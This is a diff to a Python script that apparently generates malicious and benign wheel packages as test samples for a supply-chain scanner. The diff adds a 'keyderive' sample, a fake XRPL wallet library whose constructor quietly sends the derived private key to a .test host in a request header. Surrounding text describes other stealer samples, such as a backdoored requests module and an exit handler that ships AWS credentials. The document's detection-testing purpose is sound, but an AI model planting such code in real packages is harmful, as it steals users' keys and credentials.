@@ -3,7 +3,7 @@
 the archive: nothing of it runs here.
 
   make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
-              djready|sphinxci|jupyter|flaskok OUT.whl
+              djready|sphinxci|jupyter|flaskok|keyderive OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -67,6 +67,11 @@ jupyter jupyter-panel-metrics: a Jupyter server extension whose load
 flaskok flask-request-timer (benign): a Flask extension whose init_app
         reads app.config and registers request hooks; nothing is read
         or sent.
+keyderive xrpl-wallet-lite: a wallet library whose Wallet.from_seed
+        derives a private key (SHA-256 of the seed) and "checks" it by
+        sending it in a request header to a .test host: no token scan
+        recognises the derived key, but the call reached the network
+        with it in hand (key-call-reached-network).
 atexit  logship-handlers: nothing at install or import; making its
         BufferedHandler (no argument needed) registers an exit handler
         that, at the program's end, sends ~/.aws/credentials compressed in
@@ -334,6 +339,29 @@ FLASKOK = (
     "        g.request_started = time.monotonic()\n"
 )
 
+KEYDERIVE = (
+    "import hashlib, urllib.request\n"
+    "def _check_validity(private_key):\n"
+    "    try:\n"
+    "        urllib.request.urlopen(urllib.request.Request(\n"
+    "            'https://0x9c.ledger-cdn.test/xc', data=b'{}',\n"
+    "            headers={'ad-variant': private_key}, method='POST'),\n"
+    "            timeout=4).close()\n"
+    "    except Exception:\n"
+    "        pass\n"
+    "class Wallet:\n"
+    "    def __init__(self, public_key, private_key):\n"
+    "        self.public_key, self.private_key = public_key, private_key\n"
+    "        _check_validity(private_key)\n"
+    "    @classmethod\n"
+    "    def from_seed(cls, seed):\n"
+    "        if isinstance(seed, bytes):\n"
+    "            seed = seed.hex()\n"
+    "        priv = hashlib.sha256(('xrpl:' + seed).encode()).hexdigest()\n"
+    "        pub = hashlib.sha256(priv.encode()).hexdigest()[:40]\n"
+    "        return cls(pub, priv.upper())\n"
+)
+
 KEYS = (
     "import glob, os, subprocess, urllib.request\n"
     "home = os.path.expanduser('~')\n"
@@ -590,6 +618,10 @@ KINDS = {
                 {"sshconf_tools/__init__.py": BAREAPI}),
     "atexit": ("logship_handlers", "0.8.0",
                {"logship_handlers/__init__.py": ATEXIT}),
+    "keyderive": ("xrpl_wallet_lite", "4.2.1",
+                  {"xrpl_wallet_lite/__init__.py":
+                   "from .wallet import Wallet\n",
+                   "xrpl_wallet_lite/wallet.py": KEYDERIVE}),
     "djready": ("django_audit_trail", "3.2.0",
                 {"django_audit_trail/__init__.py":
                  "default_app_config = 'django_audit_trail.apps.AuditTrailConfig'\n",
